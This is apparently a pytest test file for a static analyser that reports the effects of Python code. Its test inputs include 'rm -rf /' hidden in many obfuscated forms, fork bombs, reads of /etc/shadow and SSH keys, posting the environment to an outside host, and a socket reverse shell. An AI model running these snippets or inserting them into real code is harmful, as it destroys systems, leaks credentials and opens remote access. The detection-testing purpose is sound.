"""What Python code does, by its syntax tree."""

from __future__ import annotations

import pytest

from tests.effects.code.code_reading import effects_of, opaque_of, shown_of

ROOT = "delete path=/ recursive=True"

SURE = [
    # Processes, however the function is reached.
    ('import os; os.system("rm -rf /")', [ROOT]),
    ('import os as o; o.system("rm -rf /")', [ROOT]),
    ('from os import system; system("rm -rf /")', [ROOT]),
    ('from os import system as y; y("rm -rf /")', [ROOT]),
    ('from os import *; system("rm -rf /")', [ROOT]),
    ('import os; f = os.system; f("rm -rf /")', [ROOT]),
    ('__import__("os").system("rm -rf /")', [ROOT]),
    ('import importlib; importlib.import_module("os").system("rm -rf /")', [ROOT]),
    ('import os; getattr(os, "sys" + "tem")("rm -rf /")', [ROOT]),
    ('import sys; sys.modules["os"].system("rm -rf /")', [ROOT]),
    ('import shutil; shutil.os.system("rm -rf /")', [ROOT]),
    ('import os; os.__dict__["system"]("rm -rf /")', [ROOT]),
    ('import subprocess; subprocess.run(["rm", "-rf", "/"])', [ROOT]),
    ('import subprocess; subprocess.run(args=["rm", "-rf", "/"])', [ROOT]),
    ('import subprocess; subprocess.Popen("rm -rf /", shell=True)', [ROOT]),
    ('import subprocess; subprocess.run(["rm -rf /"], shell=True)', [ROOT]),
    ('import subprocess; subprocess.run("rm -rf /".split())', [ROOT]),
    ('import subprocess, shlex; subprocess.run(shlex.split("rm -rf /"))', [ROOT]),
    ('import os; os.execvp("rm", ["rm", "-rf", "/"])', [ROOT]),
    ('import os; os.execl("/bin/rm", "rm", "-rf", "/")', [ROOT]),
    ('import os; os.spawnvp(os.P_WAIT, "rm", ["rm", "-rf", "/"])', [ROOT]),
    ('import asyncio as a\nasync def f(): a.create_subprocess_exec("rm", "-rf", "/")', [ROOT]),
    ('exec("import os; os.system(\'rm -rf /\')")', [ROOT]),
    ('eval("__import__(\'os\').system(\'rm -rf /\')")', [ROOT]),
    # Texts that are put together.
    ('import os; x = "rm -rf "; os.system(x + "/")', [ROOT]),
    ('import os; d = "/"; os.system(f"rm -rf {d}")', [ROOT]),
    ('import os; os.system("rm -rf %s" % "/")', [ROOT]),
    ('import os; os.system("rm {} {}".format("-rf", "/"))', [ROOT]),
    ('import os; os.system(" ".join(["rm", "-rf", "/"]))', [ROOT]),
    ('import os; os.system("rm \\x2drf /")', [ROOT]),
    ('import os; os.system("rm " "-rf /")', [ROOT]),
    # Processes.
    ("import os\nwhile True:\n    os.fork()", ["forkbomb function=os.fork"]),
    ("import os\nwhile os.fork():\n    pass", ["forkbomb function=os.fork"]),
    ("import os, signal; os.kill(-1, signal.SIGKILL)", ["signal target=-1 signal=KILL"]),
    # Files.
    ('open("a")', ["read path=/w/a"]),
    ('open("a", "w")', ["write path=/w/a"]),
    ('open("a", mode="r+")', ["read path=/w/a", "write path=/w/a"]),
    ('open(file="/etc/shadow", mode="rb")', ["read path=/etc/shadow"]),
    ('import os; open(os.path.join("/etc", "shadow"))', ["read path=/etc/shadow"]),
    ('import os; open(os.path.expanduser("~/.netrc"))', ["read path=/home/u/.netrc"]),
    ('from pathlib import Path; Path("/etc/shadow").read_text()', ["read path=/etc/shadow"]),
    ('from pathlib import Path; (Path.home() / ".ssh").read_bytes()', ["read path=/home/u/.ssh"]),
    ('from pathlib import Path; p = Path("a"); p.write_text("x")', ["write path=/w/a"]),
    ('from pathlib import Path; Path("a").open("w")', ["write path=/w/a"]),
    ('from pathlib import Path; Path("a").unlink()', ["delete path=/w/a"]),
    ('import shutil; shutil.rmtree("/etc")', ["delete path=/etc recursive=True"]),
    ('import os; os.remove("a")', ["delete path=/w/a"]),
    ('import os\nfor f in ["a", "b"]:\n    os.remove(f)', ["delete path=/w/a", "delete path=/w/b"]),
    ("import glob\nfor p in glob.glob('*.txt'):\n    open(p)", ["read path=/w/*.txt"]),
    (
        "from pathlib import Path\nfor p in Path('a').glob('*'):\n    p.unlink()",
        ["delete path=/w/a/*"],
    ),
    (
        "from pathlib import Path\nfor p in Path('/home/u').rglob('id_rsa'):\n    p.read_text()",
        ["read path=/home/u/**/id_rsa", "read path=?"],
    ),
    ('import os; os.chdir("/etc"); os.remove("a")', ["delete path=/etc/a"]),
    ('import os; os.chmod("a", 0o777)', ["permission path=/w/a mode=777 world_writable=True"]),
    ('import os, signal; os.kill(1, 9)', ["signal target=1 signal=KILL"]),
    # Connections.
    (
        'import requests; requests.get("http://169.254.169.254/x")',
        [
            "connect url=http://169.254.169.254/x scheme=http host=169.254.169.254 port=80"
            " address_class=metadata"
        ],
    ),
    (
        'import socket; s = socket.socket(); s.connect(("10.0.0.1", 80))',
        ["connect scheme=tcp host=10.0.0.1 port=80 address_class=private"],
    ),
    ("from requests import get; get(u)", ["connect url=? scheme=? host=? port=? address_class=?"]),
    # SQL.
    ('db.execute("DELETE FROM users")', ["sql statement=delete tables=[users]"]),
    ('db.execute(f"DROP TABLE {name}")', ["sql statement=drop tables=[_]"]),
    ("db.execute(query)", []),
]  # fmt: skip


@pytest.mark.parametrize(("text", "wanted"), SURE, ids=[text for text, _ in SURE])
def test_calls(text: str, wanted: list[str]) -> None:
    assert shown_of(text) == wanted


UNSEEN = [
    "import subprocess; subprocess.run(cmd)",
    "import os; os.system(input())",
    "eval(text)",
    "exec(base64.b64decode(data))",
    "import os; getattr(os, name)('ls')",
    "__import__(name)",
    "import os; list(map(os.system, commands))",
    "import pickle; pickle.loads(data)",
    "import ctypes; ctypes.CDLL('libc.so.6')",
    "().__class__.__bases__[0].__subclasses__()",
    "import os; os.system('ls ' + x)",
    "import runpy; runpy.run_path('x.py')",
    "x = (",
    "print 'python 2'",
    "a\0b",
]


@pytest.mark.parametrize("text", UNSEEN)
def test_what_the_text_does_not_show_is_opaque(text: str) -> None:
    assert opaque_of(text)


NOTHING = [
    "print(1)",
    "import math; print(math.sqrt(2))",
    'print("rm -rf /")',
    'print("/etc/shadow")',
    "# rm -rf / and /etc/shadow\nprint(1)",
    '"""Reads /etc/shadow."""\nprint(1)',
    'def f():\n    """/etc/shadow"""\n    return 1',
    "model.eval()",
    "re.compile('x')",
    "import re; re.compile('x').match(s)",
    "requests_count = 3; print(requests_count)",
    "import subprocess",
    "import subprocess\ntry: f()\nexcept subprocess.CalledProcessError: pass",
    "import subprocess\ndef f(p: subprocess.Popen) -> None: pass",
    "import os; print(os.getcwd(), os.environ.get('HOME'))",
    "import os; print(os.path.exists('/etc/shadow'))",
    "import logging; logging.info('rm -rf /')",
    "df.rename(columns={'a': 'b'})",
    "def exec(x): return x\nexec(1)",
    "signal.connect(handler)",
]


@pytest.mark.parametrize("text", NOTHING)
def test_data_is_not_code(text: str) -> None:
    assert shown_of(text) == []


DOUBTFUL = [
    ('p = "/etc/shadow"', ["mention path=/etc/shadow (doubtful)"]),
    ('p = "~/.ssh/id_rsa"', ["mention path=/home/u/.ssh/id_rsa (doubtful)"]),
    ('p = b"/etc/shadow"', ["mention path=/etc/shadow (doubtful)"]),
    ('f("/etc/shadow ")', ["mention path=/etc/shadow (doubtful)"]),
    (
        'host = "169.254.169.254"',
        ["connect scheme=http host=169.254.169.254 port=80 address_class=metadata (doubtful)"],
    ),
    ("version = '169.254'", []),
    # What runs is not seen, so any text may be it.
    (
        'def sh(c): subprocess.run(c, shell=True)\nsh("cat /etc/shadow")',
        [
            "opaque reason=a program that is not known before it runs",
            "read path=/etc/shadow (doubtful)",
        ],
    ),
]  # fmt: skip


@pytest.mark.parametrize(("text", "wanted"), DOUBTFUL, ids=[text for text, _ in DOUBTFUL])
def test_what_texts_may_mean(text: str, wanted: list[str]) -> None:
    assert shown_of(text) == wanted


def test_what_is_read_may_go_to_every_host() -> None:
    text = 'import requests\nrequests.post("https://x.org", data=open("/etc/hosts"))'
    assert any(
        line.startswith("transfer path=/etc/hosts url=https://x.org/") for line in shown_of(text)
    )


def test_the_environment_may_go_out_as_a_whole_and_not_one_variable() -> None:
    whole = 'import os, requests\nrequests.post("https://x.org", json=dict(os.environ))'
    one = 'import os, requests\nrequests.post("https://x.org", auth=os.environ["TOKEN"])'
    assert any("transfer path=/proc/self/environ" in line for line in shown_of(whole))
    assert not any("transfer" in line for line in shown_of(one))


def test_a_shell_whose_input_may_be_a_connection() -> None:
    text = (
        "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.1', 4444))\n"
        "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')"
    )
    found = effects_of(text).by_kind["interpret"]
    assert any(effect.fields["remote"] for effect in found)


@pytest.mark.parametrize(
    "text", ["é = 'ü'; open('/etc/shadow')", "\r\n\r'ß'\rx = open('/etc/shadow')"]
)
def test_places_count_characters(text: str) -> None:
    (read,) = effects_of(text).by_kind["read"]
    assert read.span is not None
    assert text[slice(*read.span)] == "open('/etc/shadow')"


@pytest.mark.parametrize(
    "text",
    ["(" * 10_000, "[" * 90 + "]" * 90, "f(" * 10_000, "not " * 10_000 + "x", "-" * 10_000 + "1"],
)
def test_deep_nesting_is_opaque(text: str) -> None:
    assert opaque_of(text) or shown_of(text) == []


def test_code_that_is_too_long_is_a_bound() -> None:
    (found,) = effects_of("#" * 140_000).by_kind["opaque"]
    assert found.fields["bound"] is True


def test_code_in_code_has_a_bound() -> None:
    text = "print(1)"
    for _ in range(12):
        text = f"eval({text!r})"
    assert any(effect.fields["bound"] for effect in effects_of(text).by_kind["opaque"])
